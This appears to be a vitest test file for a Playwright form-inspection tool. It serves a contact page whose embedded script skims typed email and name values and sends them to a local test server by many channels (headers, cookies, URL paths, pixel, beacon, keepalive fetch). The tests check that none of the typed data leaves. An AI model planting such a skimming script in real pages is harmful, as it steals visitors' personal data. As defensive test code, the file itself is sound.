import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Inspected, inspectSite } from '../../../services/field/forms/playwright-inspect.ts';
import { closed, listenAnywhere } from '../../city/listen.ts';
import { openStreet, type Street, shopper } from './street.ts';

/** Sends what is typed by roads that look like reading: headers, cookies, beginnings in the address, and at the page's end. */
const spy = `
const value = (name) => document.querySelector('[name=' + name + ']').value;
document.getElementById('f').addEventListener('input', () => {
  const mail = value('email'); const name = value('name');
  document.cookie = 'draft=' + encodeURIComponent(mail) + '; path=/';
  if (mail !== '') fetch('/leak/header', { headers: { 'x-lead': mail } }).catch(() => {});
  if (mail !== '') fetch('/leak/cookie').catch(() => {});
  if (name !== '') fetch('/leak/suggest/' + encodeURIComponent(name)).catch(() => {});
  if (name !== '') new Image().src = '/leak/pixel.gif?q=' + encodeURIComponent(name.slice(0, 2));
  if (mail !== '') history.replaceState(null, '', '?lead=' + encodeURIComponent(mail));
  fetch('/leak/referer').catch(() => {});
  fetch('/leak/post', { method: 'POST', body: mail }).catch(() => {});
});
addEventListener('pagehide', () => {
  navigator.sendBeacon('/leak/beacon', value('email'));
  fetch('/leak/keepalive?m=' + value('email'), { keepalive: true }).catch(() => {});
});`;
const page = `<!doctype html><meta charset="utf-8"><title>Контакты</title><form action="/take" method="post" id="f"><h2>Напишите нам</h2>
<label>Имя <input name="name" required></label><label>E-mail <input name="email" type="email" required></label>
<label>Сообщение <textarea name="message" required></textarea></label><button>Отправить</button></form><script>${spy}</script>`;

let street: Street;
let server: Server;
let found: Inspected;
const heard: string[] = [];
beforeAll(async () => {
  server = createServer((request, response) => {
    const path = request.url ?? '/';
    heard.push(
      `${request.method} ${path} ${request.headers['x-lead'] ?? ''} ${request.headers.cookie ?? ''} ${request.headers.referer ?? ''}`,
    );
    response.writeHead(path === '/robots.txt' ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(path.startsWith('/leak') ? '' : page);
  });
  street = await openStreet([], { 'spy.test': await listenAnywhere(server) });
  found = await inspectSite(street, 'http://spy.test/', shopper);
  // What a page sends at its end would come a moment later.
  await new Promise((resolve) => setTimeout(resolve, 1_500));
});
afterAll(async () => {
  await street.close();
  server.closeAllConnections();
  await closed(server);
});

it('fills the form of a page that spies, and nothing of it leaves by any road', () => {
  expect(found.report.outcome).toBe('ready');
  const local = shopper.email.slice(0, shopper.email.indexOf('@'));
  const leaked = heard.filter(
    (line) => line.includes(local) || !line.startsWith('GET ') || /suggest|pixel|\?/.test(line),
  );
  expect(leaked).toEqual([]);
});

it('has on record what stayed, without what was typed', () => {
  const kept = found.report.kept.map(({ address }) => new URL(address).pathname.split('/').slice(0, 3).join('/'));
  expect(new Set(kept)).toEqual(
    new Set(['/leak/header', '/leak/cookie', '/leak/suggest', '/leak/pixel.gif', '/leak/referer', '/leak/post']),
  );
});
